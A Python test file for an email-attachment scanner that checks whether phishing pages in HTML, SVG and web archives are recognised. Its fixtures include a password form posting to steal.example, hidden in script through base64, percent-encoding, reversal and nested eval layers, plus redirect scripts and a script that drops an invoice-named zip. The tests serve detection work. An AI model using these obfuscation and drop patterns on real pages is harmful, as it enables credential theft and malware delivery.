"""Pages that come as files: what they show, where they lead, and what their scripts hold; nothing is run."""

import base64
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.office_files import PNG, package
from tests.test_observe_files_office import links, looked, text
from watchword.observe.attachments import attachments
from watchword.observe.files import Budget, Contents, File, look_into, unwrap
from watchword.observe.links import links as links_of
from watchword.observe.text import texts as texts_of
from watchword.parse.message import parse

FORM = '<form action="https://steal.example/p"><input type=password name=p></form><p>Sign in to go on</p>'


def coded(text: str | bytes) -> str:
    """Write in base64."""
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def looked_page(source: str, kind: str = "html") -> Contents:
    """Look into a page."""
    contents = look_into(File(kind, "a.html", source.encode()), Budget())
    assert contents is not None
    assert "file-not-read" not in dict(contents.defects), contents.defects
    return contents


def written(value: str) -> str:
    """Write a literal."""
    return f"'{value}'"


WRITES = f"document.write(atob({written(coded(FORM))}))"
CODINGS = {
    "base64": f'document.write(atob("{coded(FORM)}"))',
    "base64, named before": f'var s = "{coded(FORM)}"; var t = window["at" + "ob"](s); document.write(t)',
    "percent": f'document.write(unescape("{urllib.parse.quote(FORM)}"))',
    "every letter percent": "document.write(decodeURIComponent('" + "".join(f"%{ord(one):02x}" for one in FORM) + "'))",
    "character codes": f"document.write(String.fromCharCode({','.join(str(ord(one)) for one in FORM)}))",
    "array of codes": f"var a = [{', '.join(hex(ord(one)) for one in FORM)}]; document.write(decode(a))",
    "hexadecimal": f"document.write(unhex('{FORM.encode().hex()}'))",
    "escapes": "document.write('" + "".join(f"\\x{ord(one):02x}" for one in FORM) + "')",
    "reversed": f"document.write('{FORM[::-1]}'.split('').reverse().join(''))",
    "in pieces": "document.write('" + "' + '".join(FORM[at : at + 7] for at in range(0, len(FORM), 7)) + "')",
    "in an array": "document.write(['"
    + "', '".join(FORM[at : at + 7] for at in range(0, len(FORM), 7))
    + "'].join(''))",
    "with letters between": "document.write('" + "~#".join(FORM) + "'.replace(/~#/g, ''))",
    "two layers": f'eval(unescape("{urllib.parse.quote(WRITES)}"))',
    "three layers": f"eval(atob('{coded(f'eval(atob({written(coded(WRITES))}))')}'))",
}


@pytest.mark.parametrize("coding", CODINGS)
def test_a_form_in_a_script_is_seen(coding: str) -> None:
    """A log-in form that a script writes is read like one that stands in the page, whatever it is coded in."""
    found = looked_page(f"<html><body><script>{CODINGS[coding]}</script></body></html>")
    assert "Sign in to go on" in text(found, "attached")
    assert links(found)["https://steal.example/p"][0] == "form"
    assert {"script", "login-form"} <= set(found.contains)


def test_deeper_layers_are_named() -> None:
    """What is coded in more layers than are read is said."""
    layer = FORM
    for _ in range(5):
        layer = f"<script>document.write(atob('{coded(layer)}'))</script>"
    found = looked_page(layer)
    assert "login-form" not in found.contains
    assert "limit-script-layers" in dict(found.defects)


def test_files_put_together_by_a_script() -> None:
    """A file that a script offers for saving is a file that the page holds, under the name that it would get."""
    archive = package({"invoice.js": "run()"})
    found = looked_page(
        f'<script>var f = "{coded(archive)}"; var b = new Blob([atob(f)]); var a = document.createElement("a");'
        'a.href = URL.createObjectURL(b); a.download = "Invoice 7.zip"; a.click()</script>'
    )
    assert [(held.name, held.data) for held in found.files] == [("Invoice 7.zip", archive)]
    assert "assembles-file" in found.contains
    link = looked_page(f'<a download="a.zip" href="data:application/zip;base64,{coded(archive)}">Open</a>')
    assert [(held.name, held.data) for held in link.files] == [("a.zip", archive)]
    assert link.contains == ["data-url", "assembles-file"]


def test_pictures_in_a_page_are_files() -> None:
    """A picture that stands in a page as a data URL is a file inside; that alone is no mark."""
    found = looked_page(f'<p>Scan<img src="data:image/png;base64,{coded(PNG)}"></p>')
    assert [(held.name, held.data) for held in found.files] == [("1.png", PNG)]
    assert found.contains == []


@pytest.mark.parametrize(
    "source",
    [
        '<meta http-equiv="refresh" content="0; url=https://next.example/a">',
        '<script>window.location.href = "https://next.example/a"</script>',
        "<script>location.replace('https://next' + '.example/a')</script>",
        f"<script>var u = atob('{coded('https://next.example/a')}'); location = u</script>",
        "<body onload=\"location.assign('https://next.example/a')\">",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"location='https://next.example/a'\"/>",
    ],
)
def test_pages_that_lead_on(source: str) -> None:
    """A page that leads on by itself is marked, and where it leads is a link."""
    found = looked_page(source, "svg" if source.startswith("<svg") else "html")
    assert "redirects" in found.contains
    assert links(found)["https://next.example/a"][0] in {"script", "meta"}


def test_a_packed_script() -> None:
    """What the packer of Dean Edwards made is read."""
    found = looked_page(
        "<script>eval(function(p,a,c,k,e,d){return p}('0 1=\"2://3.4/5\";6.7=1',8,8,"
        "'var|u|https|next|example|p|window|location'.split('|'),0,{}))</script>"
    )
    assert "https://next.example/p" in links(found)
    assert {"obfuscated", "redirects"} <= set(found.contains)


@pytest.mark.parametrize(
    "source",
    [
        "<script>var who = 'ana@larkfield.example'</script>",
        f"<script>var who = atob('{coded('ana@larkfield.example')}')</script>",
        '<form><input name=e value="ana@larkfield.example"></form>',
    ],
)
def test_the_readers_address_in_a_page(source: str) -> None:
    """An address of a person that was put into a page is marked and is text, so that recipients are found in it."""
    found = looked_page(source)
    assert "prefilled-recipient" in found.contains
    assert "ana@larkfield.example" in text(found, "script")


def test_pictures_in_svg() -> None:
    """Of SVG words, links, pictures and a form inside it are read."""
    found = looked_page(
        '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://next.example/"><text>Open invoice</text></a>'
        f'<image href="data:image/png;base64,{coded(PNG)}"/><foreignObject><body>{FORM}</body></foreignObject></svg>',
        "svg",
    )
    assert "Open invoice" in text(found, "svg")
    assert {"https://next.example/", "https://steal.example/p"} <= set(links(found))
    assert [held.data for held in found.files] == [PNG]
    assert found.contains == ["login-form"]


def test_pages_inside_pages() -> None:
    """A page in `srcdoc` or in a data URL is read as a page."""
    frame = looked_page('<iframe srcdoc="&lt;a href=&quot;https://in.example/&quot;&gt;Go&lt;/a&gt;"></iframe>')
    assert "https://in.example/" in links(frame)
    link = looked_page(f'<a href="data:text/html;base64,{coded(FORM)}">Go</a>')
    assert "https://steal.example/p" in links(link)
    assert set(link.contains) == {"data-url", "login-form"}


def test_a_plain_page_has_no_marks() -> None:
    """A page of words and links is nothing but that."""
    found = looked_page('<html><body><p>Read <a href="https://larkfield.example/">our page</a>.</p></body></html>')
    assert (found.contains, found.defects, found.files) == ([], [], [])
    assert [reading.kind for reading in found.texts] == ["attached"]


def test_a_page_in_an_archive_is_read_like_one_attached() -> None:
    """The words and links of a page in a zip are rows of the message, which name the file that holds them."""
    archive = package({"page.html": f"<html><body>{FORM}</body></html>"})
    message = parse(
        b"From: ann@example.org\r\nContent-Type: application/zip; name=a.zip\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(archive)
    )
    files = attachments(message, "k")
    outer, inner = files.rows
    assert (inner.inside, inner.contains) == (outer.number, ["login-form"])
    parts = {row.number: row.part for row in files.rows}
    (row,) = texts_of(message, "k", parts, files.contents)
    assert (row.attachment, row.kind, row.written) == (inner.number, "attached", "Sign in to go on")
    (link,) = links_of(message, "k", [], parts, files.contents)
    assert (link.attachment, link.found_in, link.url) == (inner.number, "form", "https://steal.example/p")


def test_a_page_that_decodes_in_two_ways_is_read_in_both() -> None:
    """Where the transfer encoding of an attached page is given twice, the links of both readings are found."""
    message = parse(
        b"From: ann@example.org\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=a.html\r\n"
        b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(b"<p><a href='https://second.example/'>Go</a></p>")
    )
    files = attachments(message, "k")
    assert "second.example" in {link.host for link in links_of(message, "k", [], {0: 0}, files.contents)}


def test_web_archives() -> None:
    """A page in a web archive (MHTML) is read, and its pictures are files in it."""
    found = looked(
        b"From: <Saved by a browser>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/related; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/html\r\n\r\n" + FORM.encode() + b"\r\n--b\r\nContent-Type: image/png\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + coded(PNG).encode() + b"\r\n--b--\r\n",
        "a.mht",
    )
    assert found.contains == ["login-form"]
    assert [held.data for held in found.files] == [PNG]


PIECES = [
    "'",
    '"',
    "`",
    "\\",
    "+",
    ",",
    "[",
    "]",
    "(",
    ")",
    "<script>",
    "</script>",
    "atob(",
    "%41",
    "\\x41",
    "QUFB",
    "1,2,",
    "\n",
]


@settings(deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=60).map("".join))
def test_any_script_is_read(source: str) -> None:
    """No script makes the look at it fail."""
    unwrap.unwrap(source)
    looked_page(f"<script>{source}</script>")


@given(st.text(max_size=60))
def test_string_literals(value: str) -> None:
    """A string that was written as JavaScript writes it is read as it was."""
    quoted = "".join(f"\\u{{{ord(one):x}}}" if one in "\\'\n\r" else one for one in value)
    assert list(unwrap.strings(f"x = '{quoted}';")) == [value]
